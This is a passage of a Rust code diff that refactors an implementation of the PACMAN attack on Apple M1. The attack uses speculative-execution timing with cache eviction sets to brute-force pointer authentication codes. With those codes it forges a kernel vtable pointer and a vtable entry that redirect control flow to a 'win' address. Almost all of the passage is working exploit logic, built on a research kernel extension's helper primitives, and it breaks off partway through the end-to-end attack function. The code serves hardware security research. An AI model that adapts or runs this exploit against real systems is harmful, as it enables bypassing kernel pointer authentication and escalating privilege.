-    forge_evset_indexes: &mut Vec<usize>,
-    limit_evset: &Vec<u64>,
-    limit_evset_indexes: &mut Vec<usize>,
-) -> Option<u64> where TrySpec: Fn(), TryNonSpec: Fn() {
+    forge_evset: &[u64],
+    forge_evset_indexes: &mut [usize],
+    limit_evset: &[u64],
+    limit_evset_indexes: &mut [usize],
 
-    let mut NUM_MISS_SIGNIFICANT : f64 = 0.0;
-    let mut potential_matches : Vec<u64> = Vec::new();
+    // Results:
+    experiment: &str,
+    sink: &mut dyn ResultsSink,
+    mut trace: Option<&mut TraceRecorder>,
+) -> Result<Option<u64>, PacmanError> where K: KernelMemory, TrySpec: Fn(), TryNonSpec: Training + Copy {
+
+    let mut decider = BruteforceDecider::new(params.evset_size, params.how_far_above_average);
+
+    if let Some(trace) = trace.as_deref_mut() {
+        trace.set_phase(TracePhase::Scan, TraceLabel::Unknown);
+    }
 
     // Pull the target out of the victim object
     let forge_me = match victim {
@@ -570,25 +834,28 @@ unsafe fn pacman_bruteforce<
     for pac_guess in pac::iterate_pacs(forge_me) {
         let value_to_use = pac_guess;
 
-        let mut samples = match victim {
+        let samples = match victim {
             PacmanAttackTarget::Direct(target) =>
-                pacman_direct::<_, _, NUM_ITERS, EVSET_SIZE, MISS_LATENCY>(
-                    &handle,
+                pacman_direct(
+                    handle,
                     target.holder,
                     target.train_ptr,
                     value_to_use,
+                    params.num_iters,
+                    params,
                     time_use_fn,
                     &try_speculative,
-                    &try_nonspeculative,
+                    try_nonspeculative,
                     forge_evset,
                     forge_evset_indexes,
                     limit_evset,
-                    limit_evset_indexes
+                    limit_evset_indexes,
+                    trace.as_deref_mut()
                 ),
 
             PacmanAttackTarget::Indirect(target) =>
-                pacman_indirect::<_, _, NUM_ITERS, EVSET_SIZE, MISS_LATENCY>(
-                    &handle,
+                pacman_indirect(
+                    handle,
                     target.outer_holder,
                     target.inner_holder,
 
@@ -596,52 +863,48 @@ unsafe fn pacman_bruteforce<
                     target.outer_guess_ptr,
 
                     value_to_use,
+                    params.num_iters,
+                    params,
 
                     time_use_fn,
                     &try_speculative,
-                    &try_nonspeculative,
+                    try_nonspeculative,
                     forge_evset,
                     forge_evset_indexes,
                     limit_evset,
-                    limit_evset_indexes
+                    limit_evset_indexes,
+                    trace.as_deref_mut()
                 ),
-        };
+        }?;
+
+        sink.record(
+            &ExperimentRecord::new(experiment)
+                .param("phase", "scan")
+                .param_ptr("guess", pac_guess)
+                .param("evset_size", params.evset_size)
+                .param("miss_latency", params.miss_latency)
+                .samples(&samples)
+        )?;
 
         // Parse results, add to potential_matches, potentially
-        samples.sort();
-        let mut avg : f64 = 0.0;
-        let mut total : u64 = 0;
-        for j in 0..samples.len() {
-            avg += samples[j] as f64;
-            total += samples[j];
+        let stats = SampleStats::from_samples(&samples).ok_or(PacmanError::NoSamples)?;
+
+        if decider.scan(pac_guess, &samples) {
+            println!("Found a potential match: 0x{:X} ({}, {}, {}, {})", pac_guess, stats.min, stats.median, stats.avg, stats.total);
         }
-        avg /= (samples.len()) as f64;
-        let median = samples[(samples.len()) / 2];
-        let min = samples[2];
 
         if num_trials_complete == 0 {
-            // @TODO: while the observed average isn't great, regenerate eviction set :)
-            NUM_MISS_SIGNIFICANT = avg + HOW_FAR_ABOVE_AVERAGE;
-
-            if NUM_MISS_SIGNIFICANT > (EVSET_SIZE as f64) {
+            if decider.threshold_capped() {
                 println!("Asking for an impossibly high average, rounding down");
-                NUM_MISS_SIGNIFICANT = EVSET_SIZE as f64;
             }
-            println!("The number to beat is {} misses", NUM_MISS_SIGNIFICANT);
+            println!("The number to beat is {} misses", decider.threshold().unwrap());
         }
 
         // if pac_guess == correct_signed_new_vtable_ptr || num_trials_complete == 0 {
-        //     print!("{}, {}, {}, {}\t", min, median, avg, total);
+        //     print!("{}, {}, {}, {}\t", stats.min, stats.median, stats.avg, stats.total);
         //     println!("{:?}", samples);
         // }
 
-        if (avg >= (NUM_MISS_SIGNIFICANT - (HOW_FAR_ABOVE_AVERAGE as f64 / 2.0)) as f64) {
-            print!("{}, {}, {}, {}\t", min, median, avg, total);
-            println!("{:?}", samples);
-            println!("Found a potential match: 0x{:X}", pac_guess);
-            potential_matches.push(pac_guess);
-        }
-
         num_trials_complete+=1;
 
         if num_trials_complete % 6556 == 0 {
@@ -649,39 +912,44 @@ unsafe fn pacman_bruteforce<
         }
     }
 
-    println!("Found {} potential matches", potential_matches.len());
+    println!("Found {} potential matches", decider.potential_matches().len());
 
-    if potential_matches.len() == 0 {
-        return None;
+    if decider.potential_matches().is_empty() {
+        return Ok(None);
+    }
+
+    if let Some(trace) = trace.as_deref_mut() {
+        trace.set_phase(TracePhase::Final, TraceLabel::Unknown);
     }
 
     // Track the total number of misses of every potential match
     // For the ones we think are potentially correct, record the value + total number of misses
     // Report the one with the most misses
-    let mut final_matches : Vec<(u64, u64)> = Vec::new();
-
-    for potential_match in potential_matches {
+    for potential_match in decider.potential_matches().to_vec() {
         let value_to_use = potential_match;
 
-        let mut samples = match victim {
+        let samples = match victim {
             PacmanAttackTarget::Direct(target) =>
-                pacman_direct::<_, _, NUM_FINAL_ITERS, EVSET_SIZE, MISS_LATENCY>(
-                    &handle,
+                pacman_direct(
+                    handle,
                     target.holder,
                     target.train_ptr,
                     value_to_use,
+                    params.num_final_iters,
+                    params,
                     time_use_fn,
                     &try_speculative,
-                    &try_nonspeculative,
+                    try_nonspeculative,
                     forge_evset,
                     forge_evset_indexes,
                     limit_evset,
-                    limit_evset_indexes
+                    limit_evset_indexes,
+                    trace.as_deref_mut()
                 ),
 
             PacmanAttackTarget::Indirect(target) =>
-                pacman_indirect::<_, _, NUM_FINAL_ITERS, EVSET_SIZE, MISS_LATENCY>(
-                    &handle,
+                pacman_indirect(
+                    handle,
                     target.outer_holder,
                     target.inner_holder,
 
@@ -689,45 +957,45 @@ unsafe fn pacman_bruteforce<
                     target.outer_guess_ptr,
 
                     value_to_use,
+                    params.num_final_iters,
+                    params,
 
                     time_use_fn,
                     &try_speculative,
-                    &try_nonspeculative,
+                    try_nonspeculative,
                     forge_evset,
                     forge_evset_indexes,
                     limit_evset,
-                    limit_evset_indexes
+                    limit_evset_indexes,
+                    trace.as_deref_mut()
                 ),
-        };
+        }?;
 
-        // Parse results, break if we found it
-        samples.sort();
-        let mut avg : f64 = 0.0;
-        let mut total : u64 = 0;
-        for j in 0..samples.len() {
-            avg += samples[j] as f64;
-            total += samples[j];
-        }
-        avg /= (samples.len()) as f64;
-        let median = samples[(samples.len()) / 2];
-        let min = samples[2];
+        sink.record(
+            &ExperimentRecord::new(experiment)
+                .param("phase", "final")
+                .param_ptr("guess", potential_match)
+                .param("evset_size", params.evset_size)
+                .param("miss_latency", params.miss_latency)
+                .samples(&samples)
+        )?;
 
-        print!("{}, {}, {}, {}\t", min, median, avg, total);
-        // println!("{:?}", samples);
-        println!("Inspecting potential candidate: 0x{:X}", potential_match);
+        // Parse results, break if we found it
+        let stats = SampleStats::from_samples(&samples).ok_or(PacmanError::NoSamples)?;
+        println!("Inspecting potential candidate: 0x{:X} ({}, {}, {}, {})", potential_match, stats.min, stats.median, stats.avg, stats.total);
 
-        if (avg >= NUM_MISS_SIGNIFICANT as f64) {
-            final_matches.push((total, potential_match));
-        }
+        decider.inspect(potential_match, &samples);
     }
 
-    final_matches.sort_by_key(|k| k.0);
-    println!("{:?}", final_matches);
+    println!("{:?}", decider.final_matches());
 
-    let final_pac = final_matches[final_matches.len() - 1].1;
+    let final_pac = match decider.decide() {
+        Some(v) => v,
+        None => return Ok(None),
+    };
 
     println!("Final answer: 0x{:X}", final_pac);
-    return Some(final_pac);
+    return Ok(Some(final_pac));
 }
 
 /**
@@ -735,52 +1003,51 @@ unsafe fn pacman_bruteforce<
  *
  * # Bruteforce Mode
  * Returns the correct PAC that we found.
- * Note that currently that PAC is useless since the victim handle
- * drops when it goes out of scope (when we leave this fn).
+ * Note that the PAC is only useful while `victim_handle` stays open.
+ *
+ * `handle` is used for interfacing with PacmanKit, and `victim_handle` gives us a victim IOUserClient to exploit
+ * (they should be different connections). `profile` says where its helper is and what its pointers are signed with.
  */
-pub unsafe fn data_testing(memory_region: &mut [u8], do_bruteforce: bool) {
-    // Handle is used for interfacing with PacmanKit
-    let handle = PacmanKitConnection::init().unwrap();
-
-    // Victim handle gives us a victim IOUserClient to exploit
-    let victim_handle = PacmanKitConnection::init().unwrap();
+#[cfg(all(target_os = "macos", target_arch = "aarch64"))]
+pub unsafe fn data_testing<K: KernelPrimitives>(handle: &K, victim_handle: &K, memory_region: &mut [u8], do_bruteforce: bool, config: &PacmanConfig, profile: &OffsetProfile, sink: &mut dyn ResultsSink, mut trace: Option<&mut TraceRecorder>) -> Result<(), PacmanError> {
+    let params = &config.data;
 
     // Locate target object
-    let (victim_user_client, victim_object, victim_vtable, victim_vtable_entry) = find_victim_objects(&victim_handle);
+    let (_victim_user_client, victim_object, victim_vtable, _victim_vtable_entry) = find_victim_objects(victim_handle, profile)?;
 
     // Setup fake vtable (bring it into the cache)
-    let new_vtable = handle.kernel_mmap().unwrap() | PAC_BITMASK;
-    handle.kernel_read(new_vtable).unwrap();
+    let new_vtable_memory = KernelAllocation::new(handle)?;
+    let new_vtable = new_vtable_memory.addr() | PAC_BITMASK;
+    handle.kernel_read(new_vtable)?;
 
     // Original value to put in [victim_object]:
     let original_signed_vtable_ptr = victim_vtable;
 
     // Correct PAC we want to find:
-    let salt_data = get_salt(victim_object | PAC_BITMASK, 0xd986);
-    let correct_signed_new_vtable_ptr = handle.forge_sign_data(new_vtable | PAC_BITMASK, salt_data).unwrap();
+    let salt_data = get_salt(victim_object | PAC_BITMASK, profile.discriminator(profile::VTABLE_POINTER)?);
+    let correct_signed_new_vtable_ptr = handle.forge_sign_data(new_vtable | PAC_BITMASK, salt_data)?;
     let correct_pac = pac::extract_pac(correct_signed_new_vtable_ptr);
 
     // Setup evset for LIMIT
-    let limit_va = handle.leak_limit_location().unwrap();
-    let limit_pa = handle.kernel_virt_to_phys(limit_va).unwrap();
+    let limit_va = handle.leak_limit_location()?;
+    let limit_pa = handle.kernel_virt_to_phys(limit_va)?;
     let limit_evset = evset::data_pevset(limit_va, limit_pa, memory_region);
-    let mut limit_evset_chosen : Vec<u64> = limit_evset.choose_multiple(&mut rand::thread_rng(), LIMIT_EVSET_SIZE).into_iter().cloned().collect();
+    let limit_evset_chosen : Vec<u64> = evset::choose_evset(&limit_evset, config.limit_evset_size, "the LIMIT eviction set")?;
     let mut limit_indexes : Vec<usize> = (0..limit_evset_chosen.len()).collect();
 
     // Setup evset for the vtable (success data pointer)
     let new_vtable_va = new_vtable;
-    let new_vtable_pa = handle.kernel_virt_to_phys(new_vtable_va).unwrap();
+    let new_vtable_pa = handle.kernel_virt_to_phys(new_vtable_va)?;
     let new_vtable_evset = evset::data_pevset(new_vtable_va, new_vtable_pa, memory_region);
-    let mut new_vtable_evset_chosen : Vec<u64> = new_vtable_evset.choose_multiple(&mut rand::thread_rng(), DATA_EVSET_SIZE).into_iter().cloned().collect();
+    let new_vtable_evset_chosen : Vec<u64> = evset::choose_evset(&new_vtable_evset, params.evset_size, "the forged pointer eviction set")?;
     let mut new_vtable_indexes : Vec<usize> = (0..new_vtable_evset_chosen.len()).collect();
 
     let try_speculative = || {
-        victim_handle.call_service_routine(10000, 0, 0, 0, 0, 0);
+        let _ = victim_handle.call_service_routine(10000, 0, 0, 0, 0, 0);
     };
 
-    let try_nonspeculative = || {
-        victim_handle.call_service_routine(0, 0, 0, 0, 0, 0);
-    };
+    // Train with one batch per guess (instead of a round-trip per call)
+    let training = BatchedTraining::service_routine(victim_handle);
 
     let target = PacmanAttackTarget::Direct(
         DirectTarget{
@@ -803,88 +1070,97 @@ pub unsafe fn data_testing(memory_region: &mut [u8], do_bruteforce: bool) {
         println!("\tOriginal pointer:      0x{:X} (pac is 0x{:X})", original_signed_vtable_ptr, pac::extract_pac(original_signed_vtable_ptr));
         println!("\tCorrect new pointer:   0x{:X} (pac is 0x{:X})", correct_signed_new_vtable_ptr, pac::extract_pac(correct_signed_new_vtable_ptr));
         println!("\tIncorrect new pointer: 0x{:X} (pac is 0x{:X})", incorrect_signed_new_vtable_ptr, pac::extract_pac(incorrect_signed_new_vtable_ptr));
-        pacman_differentiate::<_, _, DATA_NUM_TRIALS, DATA_NUM_ITERS, DATA_EVSET_SIZE, DATA_MISS_LATENCY>(
-            &handle,
+        pacman_differentiate(
+            handle,
+            params,
             target,
             correct_signed_new_vtable_ptr,
             incorrect_signed_new_vtable_ptr,
             timer::time_access,
             try_speculative,
-            try_nonspeculative,
+            &training,
             &new_vtable_evset_chosen,
             &mut new_vtable_indexes,
             &limit_evset_chosen,
-            &mut limit_indexes
-        );
+            &mut limit_indexes,
+            "data_differentiate",
+            sink,
+            trace.as_deref_mut()
+        )?;
     }
     else {
         println!("Brute-forcing vtable pointer in PacmanKitService");
         println!("\tOriginal pointer:      0x{:X} (pac is 0x{:X})", original_signed_vtable_ptr, pac::extract_pac(original_signed_vtable_ptr));
         println!("\tWant to find:          0x{:X} (pac is 0x{:X})", correct_signed_new_vtable_ptr, pac::extract_pac(correct_signed_new_vtable_ptr));
-        pacman_bruteforce::<_, _, DATA_NUM_TRIALS, DATA_NUM_ITERS, DATA_NUM_FINAL_ITERS, DATA_EVSET_SIZE, DATA_MISS_LATENCY>(
-            &handle,
+        pacman_bruteforce(
+            handle,
+            params,
             target,
             timer::time_access,
             try_speculative,
-            try_nonspeculative,
+            &training,
             &new_vtable_evset_chosen,
             &mut new_vtable_indexes,
             &limit_evset_chosen,
-            &mut limit_indexes
-        );
+            &mut limit_indexes,
+            "data_bruteforce",
+            sink,
+            trace.as_deref_mut()
+        )?;
     }
+
+    return Ok(());
 }
 
 /**
  * Instruction version of the PACMAN attack.
+ *
+ * `handle` is used for interfacing with PacmanKit, and `victim_handle` gives us a victim IOUserClient to exploit
+ * (they should be different connections). `profile` says where its helper is and what its pointers are signed with.
  */
- pub unsafe fn inst_testing(memory_region: &mut [u8], do_bruteforce: bool) {
-    // Handle is used for interfacing with PacmanKit
-    let handle = PacmanKitConnection::init().unwrap();
-
-    // Victim handle gives us a victim IOUserClient to exploit
-    let victim_handle = PacmanKitConnection::init().unwrap();
+#[cfg(all(target_os = "macos", target_arch = "aarch64"))]
+ pub unsafe fn inst_testing<K: KernelPrimitives>(handle: &K, victim_handle: &K, memory_region: &mut [u8], do_bruteforce: bool, config: &PacmanConfig, profile: &OffsetProfile, sink: &mut dyn ResultsSink, mut trace: Option<&mut TraceRecorder>) -> Result<(), PacmanError> {
+    let params = &config.inst;
 
     // Locate target object
-    let (victim_user_client, victim_object, victim_vtable_original, victim_vtable_entry) = find_victim_objects(&victim_handle);
+    let (_victim_user_client, victim_object, victim_vtable_original, victim_vtable_entry) = find_victim_objects(victim_handle, profile)?;
 
     // Setup fake vtable with data PAC oracle (later we will use PACMAN for this too)
     // We are trying to guess the correct value INSIDE the vtable (not the vtable ptr itself) so it's ok to "cheat" here
     // as long as we use the data PACMAN attack to find this value in the real attack.
     // So the data attack needs to produce exactly one value (new_vtable_signed).
-    let new_vtable = (handle.kernel_mmap().unwrap() | PAC_BITMASK) + 0x24c940;
-    let new_vtable_salt = get_salt(victim_object | PAC_BITMASK, 0xd986);
-    let new_vtable_signed = handle.forge_sign_data(new_vtable, new_vtable_salt).unwrap();
+    let new_vtable_memory = KernelAllocation::new(handle)?;
+    let new_vtable = (new_vtable_memory.addr() | PAC_BITMASK) + 0x24c940;
+    let new_vtable_salt = get_salt(victim_object | PAC_BITMASK, profile.discriminator(profile::VTABLE_POINTER)?);
+    let new_vtable_signed = handle.forge_sign_data(new_vtable, new_vtable_salt)?;
 
     // Locate win() somewhere in the kernel retpoline (now a NOP sled!)
-    let win = handle.leak_retpoline().unwrap() | PAC_BITMASK + 0x30c0;
+    let win = handle.leak_retpoline()? | (PAC_BITMASK + 0x30c0);
 
     // This is the salt to use for any pointers put into the forged vtable:
-    let salt_inst = get_salt(new_vtable | PAC_BITMASK, 0xa7d5);
+    let salt_inst = get_salt(new_vtable | PAC_BITMASK, profile.discriminator(profile::VTABLE_ENTRY)?);
 
     // Correct PAC we want to find:
-    let correct_signed_new_vtable_entry = handle.forge_sign_inst(win | PAC_BITMASK, salt_inst).unwrap();
+    let correct_signed_new_vtable_entry = handle.forge_sign_inst(win | PAC_BITMASK, salt_inst)?;
     let correct_pac = pac::extract_pac(correct_signed_new_vtable_entry);
 
     // Setup evset for LIMIT
-    let limit_va = handle.leak_limit_location().unwrap();
-    let limit_pa = handle.kernel_virt_to_phys(limit_va).unwrap();
+    let limit_va = handle.leak_limit_location()?;
+    let limit_pa = handle.kernel_virt_to_phys(limit_va)?;
     let limit_evset = evset::data_pevset(limit_va, limit_pa, memory_region);
-    let mut limit_evset_chosen : Vec<u64> = limit_evset.choose_multiple(&mut rand::thread_rng(), LIMIT_EVSET_SIZE).into_iter().cloned().collect();
+    let mut limit_evset_chosen : Vec<u64> = evset::choose_evset(&limit_evset, config.limit_evset_size, "the LIMIT eviction set")?;
     let mut limit_indexes : Vec<usize> = (0..limit_evset_chosen.len()).collect();
 
     // Setup evset for win() (success inst pointer)
     let win_va = win;
-    let win_pa = handle.kernel_virt_to_phys(win_va).unwrap();
+    let win_pa = handle.kernel_virt_to_phys(win_va)?;
     let win_evset = evset::inst_pevset(win_va, win_pa, memory_region);
-    let mut win_evset_chosen : Vec<u64> = win_evset.choose_multiple(&mut rand::thread_rng(), INST_EVSET_SIZE).into_iter().cloned().collect();
+    let mut win_evset_chosen : Vec<u64> = evset::choose_evset(&win_evset, params.evset_size, "the win() eviction set")?;
     let mut win_indexes : Vec<usize> = (0..win_evset_chosen.len()).collect();
 
     limit_evset_chosen.sort();
     win_evset_chosen.sort();
 
-    let mut results = [[0; INST_NUM_ITERS]; INST_NUM_TRIALS];
-
     // Use a giant retpoline to flush the L1 iCache
     let mut retpoline_l1i_as_ptr : *mut u8 = 0 as *mut u8;
     let kret = mach::mach_vm_allocate(
@@ -894,23 +1170,20 @@ pub unsafe fn data_testing(memory_region: &mut [u8], do_bruteforce: bool) {
         VM_FLAGS_ANYWHERE
     );
 
-    let err_str = CStr::from_ptr(mach_error_string(kret));
     if KERN_SUCCESS != kret {
-        println!("Error creating L1 iCache retpoline memory region! ({}). Error is {:?}", kret, err_str);
-        return;
+        return Err(PacmanError::Mach { call: "mach_vm_allocate", kret });
     }
 
     // For flush_iCache:
     let retpoline_l1i = (retpoline_l1i_as_ptr as u64) & (!PAC_BITMASK);
-    retpoline::mk_retpoline_addr(retpoline_l1i as u64, cache::L2_SIZE);
+    retpoline::mk_retpoline_addr(retpoline_l1i as u64, cache::L2_SIZE)?;
 
     let try_speculative = || {
-        victim_handle.call_service_routine(10000, 0, 0, 0, 0, 0);
+        let _ = victim_handle.call_service_routine(10000, 0, 0, 0, 0, 0);
     };
 
-    let try_nonspeculative = || {
-        victim_handle.call_service_routine(0, 0, 0, 0, 0, 0);
-    };
+    // Train with one batch per guess (instead of a round-trip per call)
+    let training = BatchedTraining::service_routine(victim_handle);
 
     // Forge non-speculatively (for testing):
     // handle.kernel_write(victim_vtable, correct_signed_new_vtable_entry);
@@ -941,93 +1214,115 @@ pub unsafe fn data_testing(memory_region: &mut [u8], do_bruteforce: bool) {
         println!("\tOriginal pointer:      0x{:X} (pac is 0x{:X})", victim_vtable_entry, pac::extract_pac(victim_vtable_entry));
         println!("\tIncorrect new pointer: 0x{:X} (pac is 0x{:X})", incorrect_signed_new_vtable_entry, pac::extract_pac(incorrect_signed_new_vtable_entry));
         println!("\tCorrect new pointer:   0x{:X} (pac is 0x{:X})", correct_signed_new_vtable_entry, pac::extract_pac(correct_signed_new_vtable_entry));
-        pacman_differentiate::<_, _, INST_NUM_TRIALS, INST_NUM_ITERS, INST_EVSET_SIZE, INST_MISS_LATENCY>(
-            &handle,
+        pacman_differentiate(
+            handle,
+            params,
             target,
             // Inner holder correct/ incorrect:
             correct_signed_new_vtable_entry,
             incorrect_signed_new_vtable_entry,
             timer::time_exec,
             try_speculative,
-            try_nonspeculative,
+            &training,
             &win_evset_chosen,
             &mut win_indexes,
             &limit_evset_chosen,
-            &mut limit_indexes
-        );
+            &mut limit_indexes,
+            "inst_differentiate",
+            sink,
+            trace.as_deref_mut()
+        )?;
     }
     else {
         println!("Brute-forcing vtable entry (PacmanKitService::externalMethod) in PacmanKitService`vtable");
         println!("\tOriginal pointer:      0x{:X} (pac is 0x{:X})", victim_vtable_entry, pac::extract_pac(victim_vtable_entry));
         println!("\tWant to find:          0x{:X} (pac is 0x{:X})", correct_signed_new_vtable_entry, pac::extract_pac(correct_signed_new_vtable_entry));
-        pacman_bruteforce::<_, _, INST_NUM_TRIALS, INST_NUM_ITERS, INST_NUM_FINAL_ITERS, INST_EVSET_SIZE, INST_MISS_LATENCY>(
-            &handle,
+        pacman_bruteforce(
+            handle,
+            params,
             target,
             timer::time_exec,
             try_speculative,
-            try_nonspeculative,
+            &training,
             &win_evset_chosen,
             &mut win_indexes,
             &limit_evset_chosen,
-            &mut limit_indexes
-        );
+            &mut limit_indexes,
+            "inst_bruteforce",
+            sink,
+            trace.as_deref_mut()
+        )?;
     }
-}
 
-pub unsafe fn end_to_end(memory_region: &mut [u8]) {
-    // Handle is used for interfacing with PacmanKit
-    let handle = PacmanKitConnection::init().unwrap();
+    return Ok(());
+}
 
-    // Victim handle gives us a victim IOUserClient to exploit
-    let victim_handle = PacmanKitConnection::init().unwrap();
+/**
+ * The whole attack: bruteforce the PAC of a forged vtable pointer with the data gadget, then the PAC of
+ * a forged vtable entry pointing at `win` with the instruction gadget, and finally use both.
+ *
+ * `handle` is used for interfacing with PacmanKit, and `victim_handle` gives us a victim IOUserClient to exploit
+ * (they should be different connections). `profile` says where its helper is and what its pointers are signed with.
+ *
+ * # Return Value
+ * Fails with `PacmanError::PacNotFound` if either bruteforce finds nothing, and `PacmanError::WrongPac` if it finds
+ * the wrong PAC (checked against PacmanKit's signing oracle before the forged pointers are used).
+ */
+pub unsafe fn end_to_end<K: KernelPrimitives>(handle: &K, victim_handle: &K, memory_region: &mut [u8], config: &PacmanConfig, profile: &OffsetProfile, sink: &mut dyn ResultsSink, mut trace: Option<&mut TraceRecorder>) -> Result<(), PacmanError> {
+    let data_params = &config.data;
+    let inst_params = &config.inst;
 
     // Locate target object
-    let (victim_user_client, victim_object, victim_vtable, victim_vtable_entry) = find_victim_objects(&victim_handle);
+    let (_victim_user_client, victim_object, victim_vtable, victim_vtable_entry) = find_victim_objects(victim_handle, profile)?;
 
     // Data attack will find new_vtable_signed
-    let new_vtable = (handle.kernel_mmap().unwrap() | PAC_BITMASK) + 0x24c940;
+    let new_vtable_memory = KernelAllocation::new(handle)?;
+    let new_vtable = (new_vtable_memory.addr() | PAC_BITMASK) + 0x24c940;
 
     // Inst attack will find win_signed
-    let win = handle.leak_retpoline().unwrap() | PAC_BITMASK + 0x30c0;
+    let win = handle.leak_retpoline()? | (PAC_BITMASK + 0x30c0);
 
     // Setup evset for LIMIT
-    let limit_va = handle.leak_limit_location().unwrap();
-    let limit_pa = handle.kernel_virt_to_phys(limit_va).unwrap();
+    let limit_va = handle.leak_limit_location()?;
+    let limit_pa = handle.kernel_virt_to_phys(limit_va)?;
     let limit_evset = evset::data_pevset(limit_va, limit_pa, memory_region);
-    let mut limit_evset_chosen : Vec<u64> = limit_evset.choose_multiple(&mut rand::thread_rng(), LIMIT_EVSET_SIZE).into_iter().cloned().collect();
+    let limit_evset_chosen : Vec<u64> = evset::choose_evset(&limit_evset, config.limit_evset_size, "the LIMIT eviction set")?;
     let mut limit_indexes : Vec<usize> = (0..limit_evset_chosen.len()).collect();
 
     // Setup evset for the vtable (success data pointer)
     let new_vtable_va = new_vtable;
-    let new_vtable_pa = handle.kernel_virt_to_phys(new_vtable_va).unwrap();
+    let new_vtable_pa = handle.kernel_virt_to_phys(new_vtable_va)?;
     let new_vtable_evset = evset::data_pevset(new_vtable_va, new_vtable_pa, memory_region);
-    let mut new_vtable_evset_chosen : Vec<u64> = new_vtable_evset.choose_multiple(&mut rand::thread_rng(), DATA_EVSET_SIZE).into_iter().cloned().collect();
+    let new_vtable_evset_chosen : Vec<u64> = evset::choose_evset(&new_vtable_evset, data_params.evset_size, "the forged pointer eviction set")?;
     let mut new_vtable_indexes : Vec<usize> = (0..new_vtable_evset_chosen.len()).collect();
 
     // Setup evset for win() (success inst pointer)
     let win_va = win;
-    let win_pa = handle.kernel_virt_to_phys(win_va).unwrap();
+    let win_pa = handle.kernel_virt_to_phys(win_va)?;
     let win_evset = evset::inst_pevset(win_va, win_pa, memory_region);
-    let mut win_evset_chosen : Vec<u64> = win_evset.choose_multiple(&mut rand::thread_rng(), INST_EVSET_SIZE).into_iter().cloned().collect();
+    let win_evset_chosen : Vec<u64> = evset::choose_evset(&win_evset, inst_params.evset_size, "the win() eviction set")?;
     let mut win_indexes : Vec<usize> = (0..win_evset_chosen.len()).collect();
 
     // Closures for both attacks
     let try_speculative = || {
-        victim_handle.call_service_routine(10000, 0, 0, 0, 0, 0);
+        let _ = victim_handle.call_service_routine(10000, 0, 0, 0, 0, 0);
     };
 
     let try_nonspeculative = || {
-        victim_handle.call_service_routine(0, 0, 0, 0, 0, 0);
+        let _ = victim_handle.call_service_routine(0, 0, 0, 0, 0, 0);
     };
 
+    // Train with one batch per guess (instead of a round-trip per call)
+    let training = BatchedTraining::service_routine(victim_handle);
+
     // 1. DATA ATTACK -> Finds new_vtable_signed
 
-    // Print the correct answer to the screen- note that we can never rely on DATA_ORACLE (we must generate the value ourselves!)
-    let salt_data = get_salt(victim_object | PAC_BITMASK, 0xd986);
-    let DATA_ORACLE = handle.forge_sign_data(new_vtable | PAC_BITMASK, salt_data).unwrap();
+    // Print the correct answer to the screen- note that we can never rely on data_oracle (we must generate the value ourselves!)
+    let salt_data = get_salt(victim_object | PAC_BITMASK, profile.discriminator(profile::VTABLE_POINTER)?);
+    let data_oracle = handle.forge_sign_data(new_vtable | PAC_BITMASK, salt_data)?;
     println!("Brute-forcing vtable pointer in PacmanKitService");
     println!("\tOriginal pointer:      0x{:X} (pac is 0x{:X})", victim_vtable, pac::extract_pac(victim_vtable));
-    println!("\tWant to find:          0x{:X} (pac is 0x{:X})", DATA_ORACLE, pac::extract_pac(DATA_ORACLE));
+    println!("\tWant to find:          0x{:X} (pac is 0x{:X})", data_oracle, pac::extract_pac(data_oracle));
 
     let data_target = PacmanAttackTarget::Direct(
         DirectTarget{
@@ -1037,34 +1332,39 @@ pub unsafe fn end_to_end(memory_region: &mut [u8]) {
         }
     );
 
-    let new_vtable_signed = match pacman_bruteforce::<_, _, DATA_NUM_TRIALS, DATA_NUM_ITERS, DATA_NUM_FINAL_ITERS, DATA_EVSET_SIZE, DATA_MISS_LATENCY>(
-        &handle,
+    let new_vtable_signed = match pacman_bruteforce(
+        handle,
+        data_params,
         data_target,
         timer::time_access,
-        &try_speculative,
-        &try_nonspeculative,
+        try_speculative,
+        &training,
         &new_vtable_evset_chosen,
         &mut new_vtable_indexes,
         &limit_evset_chosen,
-        &mut limit_indexes
-    ) {
+        &mut limit_indexes,
+        "end_to_end_data",
+        sink,
+        trace.as_deref_mut()
+    )? {
         Some(x) => x,
-        None => { panic!("Couldn't find the data solution!"); }
+        None => return Err(PacmanError::PacNotFound("vtable pointer")),
     };
 
-    if new_vtable_signed != DATA_ORACLE {
-        panic!("Aborting early to prevent your kernel from panicking- the data pointer was INCORRECT!");
+    // Aborting early to prevent your kernel from panicking
+    if new_vtable_signed != data_oracle {
+        return Err(PacmanError::WrongPac("vtable pointer"));
     }
 
     // 2. INST ATTACK -> Finds win_signed for new_vtable
 
-    // Print the correct answer to the screen- note that we can never rely on INST_ORACLE (we must generate the value ourselves!)
-    let salt_inst = get_salt(new_vtable | PAC_BITMASK, 0xa7d5);
-    let INST_ORACLE = handle.forge_sign_inst(win | PAC_BITMASK, salt_inst).unwrap();
+    // Print the correct answer to the screen- note that we can never rely on inst_oracle (we must generate the value ourselves!)
+    let salt_inst = get_salt(new_vtable | PAC_BITMASK, profile.discriminator(profile::VTABLE_ENTRY)?);
+    let inst_oracle = handle.forge_sign_inst(win | PAC_BITMASK, salt_inst)?;
 
     println!("Brute-forcing vtable entry (PacmanKitService::externalMethod) in PacmanKitService`vtable");
     println!("\tOriginal pointer:      0x{:X} (pac is 0x{:X})", victim_vtable_entry, pac::extract_pac(victim_vtable_entry));
-    println!("\tWant to find:          0x{:X} (pac is 0x{:X})", INST_ORACLE, pac::extract_pac(INST_ORACLE));
+    println!("\tWant to find:          0x{:X} (pac is 0x{:X})", inst_oracle, pac::extract_pac(inst_oracle));
 
     let inst_target = PacmanAttackTarget::Indirect(
         IndirectTarget{
@@ -1080,39 +1380,56 @@ pub unsafe fn end_to_end(memory_region: &mut [u8]) {
         }
     );
 
-    let win_signed = match pacman_bruteforce::<_, _, INST_NUM_TRIALS, INST_NUM_ITERS, INST_NUM_FINAL_ITERS, INST_EVSET_SIZE, INST_MISS_LATENCY>(
-        &handle,
+    let win_signed = match pacman_bruteforce(
+        handle,
+        inst_params,
         inst_target,
         timer::time_exec,
-        &try_speculative,
-        &try_nonspeculative,
+        try_speculative,
+        &training,
         &win_evset_chosen,
         &mut win_indexes,
         &limit_evset_chosen,
-        &mut limit_indexes
-    ) {
+        &mut limit_indexes,
+        "end_to_end_inst",
+        sink,
+        trace
+    )? {
         Some(x) => x,
-        None => { panic!("Couldn't find the inst solution!"); }
+        None => return Err(PacmanError::PacNotFound("vtable entry")),
     };
 
-    if win_signed != INST_ORACLE {
-        panic!("Aborting early to prevent your kernel from panicking- the inst pointer was INCORRECT!");
